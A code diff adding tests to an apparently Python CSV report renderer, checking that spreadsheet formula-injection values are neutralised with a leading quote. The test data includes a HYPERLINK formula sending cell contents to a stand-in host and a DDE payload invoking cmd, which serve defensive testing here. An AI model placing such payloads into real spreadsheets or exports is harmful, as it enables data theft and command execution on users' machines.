@@ -81,3 +81,24 @@ def test_hostile_text_reads_back_with_every_row_whole(example_audit: CheckResult
     assert all(len(row) == len(rows[0]) for row in rows)
     assert not set(FORBIDDEN) & set("".join(c for row in rows for c in row))
     assert rows[1][1] == "Đơn vị Trường\ufffd số\ufffd 1\ufffd <b>&\ufffd\ufffd[31m đỏ\ufffd"
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(example_audit: CheckResult) -> None:
+    first = example_audit.findings[0]
+    tricked = first.model_copy(
+        update={
+            "unit_name": '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
+            "waiver": "@SUM(1+1)*cmd|' /C calc'!A0",
+        }
+    )
+    result = example_audit.model_copy(update={"findings": [tricked, *example_audit.findings[1:]]})
+    rows = _rows(render(result, "csv"))
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for c in row)
+    assert '\'=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")' in rows[1]
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows[1]
+
+
+def test_a_hyphen_inside_text_is_left_alone(example_audit: CheckResult) -> None:
+    rows = _rows(render(example_audit, "csv"))
+    unit_ids = {row[0] for row in rows[1:]}
+    assert "VN-HN-TX-TH-KIMGIANG" in unit_ids  # hyphens inside an id, not at its start
